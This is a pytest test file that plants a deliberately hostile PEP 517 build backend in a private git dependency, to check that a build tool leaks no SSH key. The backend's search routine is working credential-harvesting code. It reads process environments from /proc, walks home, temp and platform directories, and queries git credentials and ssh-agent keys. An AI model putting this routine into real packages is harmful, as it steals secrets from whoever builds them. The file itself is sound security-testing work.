"""A hostile private dependency: its PEP 517 backend attacks the build (reads every process,
file and socket it can for the key) and leaves its loot for the tests to read.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from conftest import KIT, Build, GeneratedKey, files_with_key, flit_package, key_dirs, text_has_key
from support.gitserver import GitServer

HOSTILE = "hostile @ git+ssh://git@github.com/acme/hostile.git@v1.0"


# Reads everything it can reach into $HOME/loot (the test's HOME is private to one build), when
# `_loot()` is called: the search, which each hostile backend runs when asked for a wheel.
SEARCH = r"""
import os, subprocess

def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return b""

def _tree(root, depth=4):
    if not root or not os.path.isdir(root):
        return b""
    out = b""
    for base, dirs, files in os.walk(root):
        if base.count(os.sep) - root.count(os.sep) >= depth or "site-packages" in base:
            dirs[:] = []
        for name in files:
            path = os.path.join(base, name)
            if os.path.isfile(path) and not path.endswith("loot"):
                out += b"\n== " + path.encode() + b"\n" + _read(path, 65536)
    return out

def _loot():
    out = [b"== environ\n" + repr(dict(os.environ)).encode()]
    dirs = {os.environ.get("ENV_DIR"), os.environ.get("TMPDIR", "/tmp"), "/dev/shm",
            os.environ.get("HOME"), os.environ.get("CNB_PLATFORM_DIR")}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            cmdline = _read(f"/proc/{pid}/cmdline")
            out.append(b"== cmdline " + pid.encode() + b"\n" + cmdline)
            out.append(b"== environ " + pid.encode() + b"\n" + _read(f"/proc/{pid}/environ"))
            for word in cmdline.split(b"\0"):
                if word.startswith(b"/") and os.path.isdir(word):
                    dirs.add(word.decode(errors="replace"))
            for env in _read(f"/proc/{pid}/environ").split(b"\0"):
                if env.startswith((b"ENV_DIR=", b"CNB_PLATFORM_DIR=")):
                    dirs.add(env.split(b"=", 1)[1].decode(errors="replace"))
    for directory in sorted({os.path.realpath(d) for d in dirs if d}):
        # Not the root or pseudo-filesystems (/proc/kmsg blocks a reader); /dev/shm is walked.
        pseudo = directory.startswith(("/proc/", "/sys/")) or (
            directory.startswith("/dev/") and not directory.startswith("/dev/shm"))
        if directory not in ("/", "/usr", "/proc", "/sys", "/dev") and not pseudo:
            out.append(_tree(directory, depth=2 if directory.startswith("/tmp") else 4))
    ask = subprocess.run(["git", "credential", "fill"], input=b"protocol=https\nhost=github.com\n\n",
                         capture_output=True, env={**os.environ, "GIT_TERMINAL_PROMPT": "0"})
    out.append(b"== git credential fill\n" + ask.stdout + ask.stderr)
    listed = subprocess.run(["git", "config", "--list", "--show-origin"], capture_output=True)
    out.append(b"== git config\n" + listed.stdout)
    agent = os.environ.get("SSH_AUTH_SOCK")
    if agent:
        keys = subprocess.run(["ssh-add", "-L"], capture_output=True)
        out.append(b"== " + b"agent-keys\n" + keys.stdout)  # not literal: this file is read too
    with open(os.path.join(os.environ["HOME"], "loot"), "wb") as f:
        f.write(b"\n".join(out))
"""

# A flit package's backend, searching first.
HOSTILE_BACKEND = (
    SEARCH
    + r"""
from flit_core import buildapi as _flit

def build_wheel(*args, **kwargs):
    _loot()
    return _flit.build_wheel(*args, **kwargs)

get_requires_for_build_wheel = _flit.get_requires_for_build_wheel
prepare_metadata_for_build_wheel = _flit.prepare_metadata_for_build_wheel
"""
)


@pytest.fixture(scope="module")
def hostile_repo(git_server: GitServer) -> str:
    if not (git_server.root / "repos" / "acme" / "hostile.git").exists():
        git_server.add_repo(
            "acme/hostile",
            {
                **flit_package("hostile", "1.0", backend="hostile_backend"),
                "hostile_backend.py": HOSTILE_BACKEND,
            },
        )
    return "acme/hostile"


@pytest.fixture
def hostile_build(build: Build, utils_key: GeneratedKey, hostile_repo: str) -> Iterator[Build]:
    build.server.grant(utils_key.label, utils_key.public, [hostile_repo])
    build.set_key(utils_key.text)
    (build.app / "requirements.txt").write_text(HOSTILE + "\n")
    yield build
    (KIT / "export").unlink(missing_ok=True)


def assert_found_nothing(build: Build, key: GeneratedKey, output: str, before: set[str]) -> None:
    loot = take_loot(build)
    # The search ran, and looked where the key used to be.
    assert b"== environ" in loot and b"== git config" in loot and b"== cmdline" in loot
    assert str(build.env_dir).encode() in loot  # it found the env dir, and read what is left
    assert not text_has_key(loot.decode("utf-8", "replace"), key.text)
    assert b"SSH_AUTH_SOCK" not in own_environ(loot)  # no ssh agent to ask
    assert files_with_key([build.app, build.cache, build.home], key.text) == []
    assert not text_has_key(output, key.text)
    assert key_dirs() - before == set()


def take_loot(build: Build) -> bytes:
    """What the backend gathered, moved out of HOME: it holds other private keys of this test
    machine (the test git server's host key), which the scan of HOME would rightly report."""
    loot = build.home / "loot"
    data = loot.read_bytes()
    loot.unlink()
    return data


def cnb_loot(home: Path, platform: Path | str) -> str:
    """What the backend gathered in a CNB build, in the pip buildpack's build (HOME: the build
    user's home), removed once read: it read its environment, every process's, the platform dir
    (env files, bindings) and git's settings."""
    loot = (home / "loot").read_text("utf-8", "replace")
    (home / "loot").unlink()
    assert "== environ" in loot and "== cmdline" in loot and "== git config" in loot
    assert f"== {platform}/env/PIP_NO_INDEX" in loot  # it walked the platform dir
    return loot


def own_environ(loot: bytes) -> bytes:
    """The backend's own environment, the first part of what it gathered."""
    return loot.split(b"== cmdline", 1)[0]
